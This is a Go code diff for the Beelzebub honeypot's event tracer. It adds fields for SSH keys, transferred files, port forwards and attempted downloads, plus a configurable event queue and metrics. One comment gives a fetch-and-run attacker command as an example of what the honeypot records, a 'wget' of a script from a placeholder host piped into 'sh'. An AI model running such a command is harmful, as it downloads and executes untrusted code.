@@ -2,14 +2,21 @@
 package tracer
 
 import (
+	"context"
+	"errors"
+	"fmt"
 	"sync"
+	"sync/atomic"
 	"time"
 
 	"github.com/prometheus/client_golang/prometheus"
-	"github.com/prometheus/client_golang/prometheus/promauto"
 	log "github.com/sirupsen/logrus"
+	"go.opentelemetry.io/otel"
+	"go.opentelemetry.io/otel/attribute"
+	"go.opentelemetry.io/otel/metric"
 )
 
+// Workers is the number of goroutines running the strategy when the configuration does not set one.
 const Workers = 5
 
 type Event struct {
@@ -38,6 +45,37 @@ type Event struct {
 	SourcePort      string
 	TLSServerName   string
 	Handler         string
+	// PublicKey is the authorized_keys line of the key offered during the SSH public key authentication.
+	PublicKey            string
+	PublicKeyType        string
+	PublicKeyFingerprint string
+	// Prompt is the keyboard-interactive prompt answered by the client, the answer is stored in Password.
+	Prompt string
+	// FileName, FileSize and the hashes describe a file transferred by the client.
+	FileName   string
+	FileSize   int64
+	FileSHA256 string
+	FileSHA1   string
+	FileMD5    string
+	// DestinationHost and DestinationPort are the target of a forwarded channel, or the bind address of a remote port forward.
+	DestinationHost string
+	DestinationPort string
+	// Payload holds the first bytes sent by the client through a forwarded channel.
+	Payload []byte
+	// URL is the remote file a command tried to download, e.g. a dropper; FileName and HTTPMethod complete it.
+	URL string
+	// SubCommands are the simple commands of the command line, e.g. "uname -a" and "wget http://x/y.sh" of
+	// "uname -a; wget http://x/y.sh | sh", in the order they were run, command substitutions included.
+	SubCommands []SubCommand
+	// ServiceAddress is the listening address of the service which traced the event, e.g. ":22".
+	ServiceAddress string
+}
+
+// SubCommand is a simple command of a command line, dispatched on its own against the configured commands.
+type SubCommand struct {
+	Command       string
+	CommandOutput string
+	Handler       string
 }
 
 type (
@@ -80,31 +118,63 @@ const (
 	End
 	Stateless
 	Interaction
+	// PortForward is the status of the SSH port forwarding requests, direct-tcpip channels and tcpip-forward requests.
+	PortForward
+	// Download is the status of the downloads attempted by the attackers, e.g. with wget or curl.
+	Download
 )
 
 func (status Status) String() string {
-	return [...]string{"Start", "End", "Stateless", "Interaction"}[status]
+	return [...]string{"Start", "End", "Stateless", "Interaction", "PortForward", "Download"}[status]
 }
 
 type Strategy func(event Event)
 
+type tracerContextKey struct{}
+
+// NewContext returns a copy of ctx carrying tr, so that the plugins can trace their own events.
+func NewContext(ctx context.Context, tr Tracer) context.Context {
+	return context.WithValue(ctx, tracerContextKey{}, tr)
+}
+
+// FromContext returns the tracer carried by ctx, if any.
+func FromContext(ctx context.Context) (Tracer, bool) {
+	tr, ok := ctx.Value(tracerContextKey{}).(Tracer)
+	return tr, ok
+}
+
 type Tracer interface {
 	TraceEvent(event Event)
 }
 
 type tracer struct {
 	strategy          Strategy
-	eventsChan        chan Event
 	eventsTotal       prometheus.Counter
 	eventsSSHTotal    prometheus.Counter
 	eventsTCPTotal    prometheus.Counter
 	eventsHTTPTotal   prometheus.Counter
 	eventsMCPTotal    prometheus.Counter
 	eventsTelnetTotal prometheus.Counter
+	// eventsQueuedTotal, eventsDroppedTotal, eventsSpilledTotal and eventsFailedTotal follow the events through the queue,
+	// so that an unreachable tracing backend is visible instead of slowing down the honeypots.
+	eventsQueuedTotal  prometheus.Counter
+	eventsDroppedTotal prometheus.Counter
+	eventsSpilledTotal prometheus.Counter
+	eventsFailedTotal  prometheus.Counter
+	queueLengthGauge   prometheus.GaugeFunc
+	// otelEvents mirrors the per protocol counters as an OpenTelemetry metric, with the protocol as attribute.
+	otelEvents metric.Int64Counter
 
 	strategyMutex sync.RWMutex
+	// queue is replaced by Configure, the workers of the previous queue exit once it is drained.
+	queue atomic.Pointer[queue]
+	// inFlight counts the events traced but not yet handled by the strategy, nor dropped.
+	inFlight atomic.Int64
 }
 
+// flushPollInterval is the interval used by Flush to check whether the events queue is empty.
+const flushPollInterval = 10 * time.Millisecond
+
 var lock = &sync.Mutex{}
 var singleton *tracer
 
@@ -115,47 +185,79 @@ func GetInstance(defaultStrategy Strategy) *tracer {
 		// This is to prevent expensive lock operations every time the GetInstance method is called
 		if singleton == nil {
 			singleton = &tracer{
-				strategy:   defaultStrategy,
-				eventsChan: make(chan Event, Workers),
-				eventsTotal: promauto.NewCounter(prometheus.CounterOpts{
+				strategy: defaultStrategy,
+				eventsTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "events_total",
 					Help:      "The total number of events",
 				}),
-				eventsSSHTotal: promauto.NewCounter(prometheus.CounterOpts{
+				eventsSSHTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "ssh_events_total",
 					Help:      "The total number of SSH events",
 				}),
-				eventsTCPTotal: promauto.NewCounter(prometheus.CounterOpts{
+				eventsTCPTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "tcp_events_total",
 					Help:      "The total number of TCP events",
 				}),
-				eventsHTTPTotal: promauto.NewCounter(prometheus.CounterOpts{
+				eventsHTTPTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "http_events_total",
 					Help:      "The total number of HTTP events",
 				}),
-				eventsMCPTotal: promauto.NewCounter(prometheus.CounterOpts{
+				eventsMCPTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "mcp_events_total",
 					Help:      "The total number of MCP events",
 				}),
-				eventsTelnetTotal: promauto.NewCounter(prometheus.CounterOpts{
+				eventsTelnetTotal: prometheus.NewCounter(prometheus.CounterOpts{
 					Namespace: "beelzebub",
 					Name:      "telnet_events_total",
 					Help:      "The total number of TELNET events",
 				}),
+				eventsQueuedTotal: prometheus.NewCounter(prometheus.CounterOpts{
+					Namespace: "beelzebub",
+					Name:      "events_queued_total",
+					Help:      "The total number of events accepted by the events queue",
+				}),
+				eventsDroppedTotal: prometheus.NewCounter(prometheus.CounterOpts{
+					Namespace: "beelzebub",
+					Name:      "events_dropped_total",
+					Help:      "The total number of events dropped because the events queue was full",
+				}),
+				eventsSpilledTotal: prometheus.NewCounter(prometheus.CounterOpts{
+					Namespace: "beelzebub",
+					Name:      "events_spilled_total",
+					Help:      "The total number of events spilled to disk because the events queue was full",
+				}),
+				eventsFailedTotal: prometheus.NewCounter(prometheus.CounterOpts{
+					Namespace: "beelzebub",
+					Name:      "events_failed_total",
+					Help:      "The total number of events lost because of an error of the tracer",
+				}),
+			}
+
+			// The global MeterProvider delegates to the one set by the telemetry package, even when it is set later.
+			otelEvents, err := otel.Meter("github.com/beelzebub-labs/beelzebub/v3/internal/tracer").Int64Counter(
+				"beelzebub.events",
+				metric.WithDescription("The total number of events"),
+				metric.WithUnit("{event}"),
+			)
+			if err != nil {
+				log.Errorf("Error during init opentelemetry events counter: %s", err.Error())
 			}
+			singleton.otelEvents = otelEvents
+
+			singleton.queueLengthGauge = prometheus.NewGaugeFunc(prometheus.GaugeOpts{
+				Namespace: "beelzebub",
+				Name:      "events_queue_length",
+				Help:      "The number of events waiting in the events queue, spilled events included",
+			}, singleton.queueLength)
 
-			for i := 0; i < Workers; i++ {
-				go func(i int) {
-					log.Debug("Trace worker: ", i)
-					for event := range singleton.eventsChan {
-						singleton.strategy(event)
-					}
-				}(i)
+			// The default queue cannot fail, it has no spill directory.
+			if err := singleton.Configure(QueueOptions{}); err != nil {
+				log.Errorf("Error during init events queue: %s", err.Error())
 			}
 		}
 	}
@@ -163,6 +265,36 @@ func GetInstance(defaultStrategy Strategy) *tracer {
 	return singleton
 }
 
+// Register registers the counters of the tracer on registerer, registering them twice on the same registry is not an
+// error.
+func (tracer *tracer) Register(registerer prometheus.Registerer) error {
+	collectors := []prometheus.Collector{
+		tracer.eventsTotal,
+		tracer.eventsSSHTotal,
+		tracer.eventsTCPTotal,
+		tracer.eventsHTTPTotal,
+		tracer.eventsMCPTotal,
+		tracer.eventsTelnetTotal,
+		tracer.eventsQueuedTotal,
+		tracer.eventsDroppedTotal,
+		tracer.eventsSpilledTotal,
+		tracer.eventsFailedTotal,
+		tracer.queueLengthGauge,
+	}
+	for _, collector := range collectors {
+		if collector == nil {
+			continue
+		}
+		if err := registerer.Register(collector); err != nil {
+			var alreadyRegistered prometheus.AlreadyRegisteredError
+			if !errors.As(err, &alreadyRegistered) {
+				return fmt.Errorf("error during register tracer metrics: %w", err)
+			}
+		}
+	}
+	return nil
+}
+
 func (tracer *tracer) SetStrategy(strategy Strategy) {
 	tracer.strategyMutex.Lock()
 	defer tracer.strategyMutex.Unlock()
@@ -175,12 +307,120 @@ func (tracer *tracer) GetStrategy() Strategy {
 	return tracer.strategy
 }
 
+// Configure replaces the events queue and its workers, it is meant to be called once at startup. The events already
+// queued are still delivered by the previous workers, which exit once their queue is drained.
+func (tracer *tracer) Configure(options QueueOptions) error {
+	newQueue, err := newQueue(options)
+	if err != nil {
+		return err
+	}
+	// The events spilled by a previous run are delivered as well.
+	tracer.inFlight.Add(int64(newQueue.len()))
+	workers := options.Workers
+	if workers <= 0 {
+		workers = Workers
+	}
+	for i := 0; i < workers; i++ {
+		go func(i int) {
+			log.Debug("Trace worker: ", i)
+			tracer.work(newQueue)
+		}(i)
+	}
+
+	if previous := tracer.queue.Swap(newQueue); previous != nil {
+		previous.close()
+	}
+
+	log.WithFields(log.Fields{
+		"size":           len(newQueue.buffer),
+		"workers":        workers,
+		"overflowPolicy": options.OverflowPolicy.String(),
+	}).Debug("Events queue configured")
+	return nil
+}
+
+// TraceEvent queues the event for the strategy, it blocks only with the Block overflow policy.
 func (tracer *tracer) TraceEvent(event Event) {
 	event.DateTime = time.Now().UTC().Format(time.RFC3339)
 
-	tracer.eventsChan <- event
+	tracer.inFlight.Add(1)
+	result, err := tracer.queue.Load().push(event)
+	for errors.Is(err, errQueueClosed) {
+		// The queue has just been replaced by Configure.
+		result, err = tracer.queue.Load().push(event)
+	}
+	if err != nil {
+		log.Errorf("Error during queue event: %s", err.Error())
+		tracer.eventsFailedTotal.Inc()
+	}
+	if result.queued {
+		tracer.eventsQueuedTotal.Inc()
+	}
+	if result.spilled {
+		tracer.eventsSpilledTotal.Inc()
+	}
+	if result.dropped > 0 {
+		tracer.eventsDroppedTotal.Add(float64(result.dropped))
+	}
+	if !result.queued || result.dropped > 0 {
+		// Either the event itself or an older one is gone.
+		tracer.inFlight.Add(-1)
+	}
 
 	tracer.updatePrometheusCounters(event.Protocol)
+	tracer.updateOpenTelemetryCounters(event.Protocol)
+}
+
+// work runs the strategy on the events of the queue, until the queue is closed and drained.
+func (tracer *tracer) work(q *queue) {
+	for {
+		event, ok, err := q.pop()
+		if !ok {
+			if err != nil {
+				log.Errorf("Error during close events queue: %s", err.Error())
+			}
+			return
+		}
+		if err != nil {
+			log.Errorf("Error during dequeue event: %s", err.Error())
+			tracer.eventsFailedTotal.Inc()
+			tracer.inFlight.Add(-1)
+			continue
+		}
+		tracer.handle(event)
+	}
+}
+
+func (tracer *tracer) handle(event Event) {
+	defer tracer.inFlight.Add(-1)
+	defer func() {
+		if r := recover(); r != nil {
+			log.Errorf("panic in trace strategy: %v", r)
+			tracer.eventsFailedTotal.Inc()
+		}
+	}()
+	tracer.GetStrategy()(event)
+}
+
+func (tracer *tracer) queueLength() float64 {
+	if q := tracer.queue.Load(); q != nil {
+		return float64(q.len())
+	}
+	return 0
+}
+
+// Flush waits until every traced event has been handled by the strategy, or ctx expires.
+func (tracer *tracer) Flush(ctx context.Context) error {
+	ticker := time.NewTicker(flushPollInterval)
+	defer ticker.Stop()
+	for tracer.inFlight.Load() > 0 {
+		select {
+		case <-ctx.Done():
+			return ctx.Err()
+		case <-ticker.C:
+		}
+	}
+	return nil
 }
 
 func (tracer *tracer) updatePrometheusCounters(protocol string) {
@@ -198,3 +438,10 @@ func (tracer *tracer) updatePrometheusCounters(protocol string) {
 	}
 	tracer.eventsTotal.Inc()
 }
+
+func (tracer *tracer) updateOpenTelemetryCounters(protocol string) {
+	if tracer.otelEvents == nil {
+		return
+	}
+	tracer.otelEvents.Add(context.Background(), 1, metric.WithAttributes(attribute.String("protocol", protocol)))
+}